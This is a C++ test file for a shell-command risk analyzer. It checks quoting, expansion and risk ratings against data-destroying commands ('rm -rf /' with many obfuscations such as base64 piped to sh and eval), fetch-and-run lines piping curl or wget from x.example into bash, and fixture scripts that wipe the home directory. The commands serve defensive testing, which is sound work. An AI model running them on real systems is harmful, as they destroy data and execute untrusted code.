// Properties of quoting, expansion and rating, over seeded random words and every dangerous line of the cases.
#include <doctest/doctest.h>

#include <stdlib.h>
#include <unistd.h>

#include <cstdio>
#include <fstream>
#include <random>
#include <string>

#include "base/text.h"
#include "shell/analyze.h"
#include "shell/ast.h"
#include "shell/expand.h"
#include "shell/quote.h"

using namespace heddle;
using namespace heddle::shell;

namespace {

const World kWorld{.cwd = "/home/me/project", .home = "/home/me"};

std::string RandomWord(std::mt19937& rng) {
  static constexpr std::string_view kBytes = "abz09 _-./~$`'\"\\*?[]{}()<>|&;!#=%@^,:+\n\t\x7f\xC3\xA9";
  std::string out;
  for (size_t n = rng() % 12; n > 0; --n) out += kBytes[rng() % (kBytes.size() - 2)];
  if (rng() % 8 == 0) out += "\xC3\xA9";
  return out;
}

std::vector<std::string> Fields(std::string_view text) {
  Frame frame(kWorld);
  // The one substitution that quoting writes: printf 'BYTES'.
  const auto print = [](std::string_view command, bool) {
    constexpr std::string_view kBegin = "printf '";
    if (!command.starts_with(kBegin)) return std::string("SUB");
    return DecodeEscapes(command.substr(kBegin.size(), command.size() - kBegin.size() - 1));
  };
  Expander expander(frame, {.substitute = print});
  std::vector<std::string> out;
  auto script = Parse(text);
  REQUIRE(script);
  REQUIRE(script->root.children.size() == 1);
  for (const Word& word : script->root.children[0].words) {
    for (auto& field : expander.Expand(word)) out.push_back(field.text);
  }
  return out;
}

Risk RiskOf(const std::string& line) {
  const auto analysis = Analyze(line, kWorld);
  return analysis ? analysis->risk : Risk::kCritical;
}

std::vector<std::string> DangerousLines() {
  std::vector<std::string> out;
  std::ifstream in("tests/cases/check/danger.case");
  for (std::string line; std::getline(in, line);) {
    if (!line.empty() && line[0] != '#') out.push_back(ReplaceAll(line.substr(line.find(' ') + 1), "\\n", "\n"));
  }
  return out;
}

}  // namespace

TEST_CASE("what cannot be seen is quoted as numbers, where the dialect has them") {
  CHECK(Quote("a\u202e'b", Dialect::kBash) == "$'a\\xe2\\x80\\xae\\x27b'");
  CHECK(Quote("a\nb", Dialect::kZsh) == "$'a\\nb'");
  CHECK(Quote("a\u202eb", Dialect::kFish) == "'a'\\Xe2\\X80\\Xae'b'");
  CHECK(Quote("a\u202eb", Dialect::kPosix) == "'a\u202eb'");
  CHECK(Quote("\u00e9", Dialect::kBash) == "\u00e9");
}

TEST_CASE("printing a word and parsing it again gives the word back") {
  std::mt19937 rng(7);
  for (int i = 0; i < 3000; ++i) {
    const std::vector<std::string> words{"cmd", RandomWord(rng), RandomWord(rng)};
    for (Dialect dialect : {Dialect::kBash, Dialect::kZsh, Dialect::kPosix}) {
      const std::string line = QuoteAll(words, dialect);
      CHECK_MESSAGE(Fields(line) == words, line);
    }
  }
}

// What `shell` prints when it runs `script` from a file.
std::string RunScript(const std::string& shell, const std::string& script) {
  char name[] = "/tmp/heddle-quote-XXXXXX";
  const int fd = ::mkstemp(name);
  REQUIRE(fd >= 0);
  ::close(fd);
  std::ofstream(name) << script;
  FILE* pipe = ::popen((shell + " " + name).c_str(), "r");
  REQUIRE(pipe != nullptr);
  std::string out;
  char chunk[4096];
  for (size_t got; (got = std::fread(chunk, 1, sizeof chunk, pipe)) > 0;) out.append(chunk, got);
  CHECK(::pclose(pipe) == 0);
  ::unlink(name);
  return out;
}

TEST_CASE("the shells themselves agree on the words") {
  struct Row {
    const char *shell, *probe;
    Dialect dialect;
  };
  for (const Row& row : {Row{"bash", "bash", Dialect::kBash}, Row{"zsh -f", "zsh", Dialect::kZsh},
                         Row{"fish --no-config", "fish", Dialect::kFish}, Row{"dash", "dash", Dialect::kPosix},
                         Row{"busybox sh", "busybox", Dialect::kPosix}}) {
    if (std::system((std::string("command -v ") + row.probe + " > /dev/null").c_str()) != 0) {
      MESSAGE(row.probe << " is not installed here");
      continue;
    }
    std::mt19937 rng(11);
    std::string script;
    std::vector<std::string> words;
    for (int i = 0; i < 300; ++i) {
      words.push_back(RandomWord(rng));
      script += "printf '%s|end|' " + Quote(words.back(), row.dialect) + "\n";
    }
    std::string out = RunScript(row.shell, script);
    for (const auto& word : words) {
      const std::string expected = word + "|end|";
      REQUIRE_MESSAGE(out.starts_with(expected), row.shell << ": " << Quote(word, row.dialect));
      out.erase(0, expected.size());
    }
  }
}

TEST_CASE("fish quoting escapes only what single quotes there need") {
  CHECK(Quote("it's a \\ test", Dialect::kFish) == "'it\\'s a \\\\ test'");
  CHECK(Quote("plain", Dialect::kFish) == "plain");
}

TEST_CASE("expansion follows the shell") {
  using V = std::vector<std::string>;
  CHECK(Fields("c a\"b c\"'d'\\ e") == V{"c", "ab cd e"});
  CHECK(Fields("c {a,b}{1..3}") == V{"c", "a1", "a2", "a3", "b1", "b2", "b3"});
  CHECK(Fields("c $'\\x41\\t'") == V{"c", "A\t"});
  CHECK(Fields("c $(x) \"`y`\"") == V{"c", "SUB", "SUB"});
  CHECK(Fields("c $((6*7))") == V{"c", "42"});
  CHECK(Fields("c ${x:-a b}") == V{"c", "a", "b"});
  CHECK(Fields("c \"${x:-a b}\"") == V{"c", "a b"});
  CHECK(Fields("c ''") == V{"c", ""});
  CHECK(HasUnknown(Fields("c $unknown")[1]));
}

TEST_CASE("risk does not fall when a dangerous line is spelt another way") {
  const auto lines = DangerousLines();
  REQUIRE(lines.size() > 250);
  for (const std::string& line : lines) {
    const Risk risk = RiskOf(line);
    if (risk < Risk::kHigh) continue;
    const bool multi = Contains(line, "\n") || Contains(line, "<<");
    CHECK_MESSAGE(RiskOf("true; " + line) >= Risk::kHigh, line);
    CHECK_MESSAGE(RiskOf("  " + line + "  ") >= risk, line);
    if (multi) continue;
    CHECK_MESSAGE(RiskOf("( " + line + " )") >= Risk::kHigh, line);
    // A shell of its own has no parameters, so what takes one there deletes nothing.
    if (!Contains(line, "$1")) CHECK_MESSAGE(RiskOf("bash -c " + Quote(line)) >= Risk::kHigh, line);
    CHECK_MESSAGE(RiskOf("eval " + Quote(line)) >= Risk::kHigh, line);
    CHECK_MESSAGE(RiskOf("x=" + Quote(line) + "; eval \"$x\"") >= Risk::kHigh, line);
    CHECK_MESSAGE(RiskOf("echo " + EncodeBase64(line) + " | base64 -d | sh") >= Risk::kHigh, line);
  }
}

TEST_CASE("risk does not depend on quotes or the order of flags") {
  for (const char* line : {"rm -rf /", "rm -fr /", "rm -r -f /", "rm -f -r -- /", "rm / -rf", "'rm' \"-rf\" '/'",
                           "r\"m\" -r'f' \"/\"", "\\rm -\\rf \\/", "rm\t-rf\t/"}) {
    CHECK_MESSAGE(RiskOf(line) == Risk::kCritical, line);
  }
}

TEST_CASE("what cannot be parsed or followed is rated by its worst reading, and nothing crashes") {
  CHECK(RiskOf("rm -rf / \"") >= Risk::kHigh);
  CHECK(RiskOf("if then rm -rf / fi (") >= Risk::kHigh);
  CHECK_FALSE(Analyze(std::string("a\0b", 3), kWorld));
  std::string deep;
  for (int i = 0; i < 10000; ++i) deep += "$(";
  CHECK(Analyze(deep, kWorld));
  std::string quotes;
  for (int i = 0; i < 3000; ++i) quotes += "\"$(";
  CHECK(Analyze(quotes, kWorld));
  std::mt19937 rng(3);
  for (int i = 0; i < 3000; ++i) {
    std::string line;
    for (size_t n = rng() % 6; n > 0; --n) line += RandomWord(rng) + " ";
    (void)Analyze(line, kWorld);
  }
}

TEST_CASE("links that exist are looked through") {
  World world = kWorld;
  world.resolve = [](const std::string& path) {
    return path == "/home/me/project/link" ? std::string("/etc") : std::string();
  };
  CHECK(Analyze("rm -rf link/", world)->risk == Risk::kCritical);
  CHECK(Analyze("rm -rf link", world)->risk == Risk::kModerate);
}

TEST_CASE("a file that version control has is told apart from one that it has not") {
  World world{.cwd = "/home/me/project", .home = "/home/me"};
  world.tracked = [](const std::string& path) { return path == "/home/me/project/a.txt"; };
  const auto place = [&](const char* command) {
    const auto analysis = Analyze(command, world);
    REQUIRE(analysis);
    REQUIRE(analysis->effects.size() == 1);
    return analysis->effects[0].place;
  };
  CHECK(place("rm a.txt") == Place::kTracked);
  CHECK(place("echo x > a.txt") == Place::kTracked);
  CHECK(place("rm b.txt") == Place::kOrdinary);
  CHECK(place("rm -r a.txt") == Place::kOrdinary);  // more than the one file may go
}

TEST_CASE("a megabyte of one mark breaks nothing, and is never called safe") {
  for (const std::string_view piece : {"(", "\"$(", "{", "$(", "`", "<<x\n", "[", "a|", "'\""}) {
    std::string text;
    while (text.size() + piece.size() < 1'000'000) text += piece;
    CAPTURE(piece);
    const auto analysis = Analyze(text, kWorld);
    CHECK((!analysis || !analysis->complete || analysis->risk != Risk::kSafe));
  }
}

namespace {

std::string Times(size_t count, std::string_view text) {
  std::string out;
  for (size_t i = 0; i < count; ++i) out += text;
  return out;
}

}  // namespace

// Each line hides what it does behind one bound; without that bound's own guard it would be rated safe or moderate.
TEST_CASE("every bound rates at least high and says that the analysis is incomplete") {
  const std::pair<const char*, std::string> rows[] = {
      {"steps", Times(3990, ":;") + "rm -rf /"},
      {"fields of a word", "echo {1..5000}"},
      {"fields of an expansion", "x='" + Times(5000, "a ") + "'; echo $x"},
      {"depth of shells", "f() { bash -c \"$1\" f \"$1\"; }; f 'bash -c \"$0\"'; g() { (g); }; g"},
      {"tests of find", "find . " + Times(250, "-size 1 ") + "-print"},
      {"texts of code", "python3 -c 'import os; " + Times(80, "os.system(\"ls\");") + "'"},
      {"length of a text of code", "python3 -c 'import os; os.system(\"ls " + Times(5000, "a") + "\")'"},
      {"fragments of broken text", "if " + Times(400, "ls; ") + "\""},
      {"elements of a list", "a=(" + Times(5000, "x ") + ")"},
      {"nested statements", Times(300, "( ") + "ls" + Times(300, " )")},
  };
  for (const auto& [bound, line] : rows) {
    CAPTURE(bound);
    const auto analysis = Analyze(line, kWorld);
    REQUIRE(analysis);
    CHECK(analysis->risk >= Risk::kHigh);
    CHECK_FALSE(analysis->complete);
  }
}

TEST_CASE("what lies beyond the values that are tried may be anything") {
  CHECK(RiskOf("for x in " + Times(40, "/tmp/a ") + "/; do rm -rf $x; done") >= Risk::kHigh);
  CHECK(RiskOf("printf '%s\\n' " + Times(90, "/tmp/a ") + "/ | xargs rm -rf") >= Risk::kHigh);
  CHECK(RiskOf("i=0; while [ $i -lt 99 ]; do $c -rf /; i=$((i+1)); [ $i = 60 ] && c=rm; done") >= Risk::kHigh);
}

TEST_CASE("values that branches may give are all tried, and too many of them are unknown") {
  CHECK(RiskOf("if true; then c=ls; else c=rm; fi; $c -rf /") == Risk::kCritical);
  CHECK(RiskOf("c=rm; false && c=ls; $c -rf /") == Risk::kCritical);
  CHECK(RiskOf("case $1 in a) d=/;; *) d=/tmp/x;; esac; rm -rf $d") == Risk::kCritical);
  std::string many;
  for (int i = 0; i < 20; ++i) many += "if x; then v=" + std::to_string(i) + "; fi; ";
  CHECK(RiskOf(many + "$v -rf /") >= Risk::kHigh);
  CHECK(RiskOf("(c=rm); c=ls; $c -rf /") == Risk::kSafe);  // a subshell's variables end with it
  CHECK(RiskOf("d=/tmp/x; (cd / ); rm -rf $d") < Risk::kHigh);
}

TEST_CASE("what is downloaded is critical by whatever way it is run") {
  for (const char* line :
       {"$(curl -s https://x.example/a) now", "curl https://x.example | bash -", "curl https://x.example | sh -s -- -y",
        "curl -fsSLo f https://x.example && bash f", "wget -qO f https://x.example; sh ./f",
        "curl -o f https://x.example; bash - f", "curl https://x.example | tar xz -C d && d/run.sh",
        "git clone https://x.example/r && sh r/i.sh"}) {
    CAPTURE(line);
    CHECK(RiskOf(line) == Risk::kCritical);
  }
}

TEST_CASE("scripts and recipes that are there are looked into") {
  World world = kWorld;
  world.read = [](const std::string& path) -> std::optional<std::string> {
    if (path == "/home/me/project/deploy.sh") return "#!/bin/sh\nrm -rf ~\n";
    if (path == "/home/me/project/Makefile") return "all: dep\n\techo ok\ndep:\n\trm -rf $$HOME\n";
    if (path == "/home/me/project/package.json") return R"({"scripts":{"pretest":"rm -rf ~","test":"jest"}})";
    return std::nullopt;
  };
  for (const char* line : {"bash deploy.sh", "./deploy.sh", ". ./deploy.sh", "make", "npm test"}) {
    CAPTURE(line);
    CHECK(Analyze(line, world)->risk == Risk::kCritical);
    CHECK(Analyze(line, kWorld)->risk < Risk::kHigh);
  }
  CHECK(RiskOf("./not-to-be-read --all") == Risk::kModerate);
  CHECK(RiskOf("/bin/ls -l") == Risk::kSafe);
}
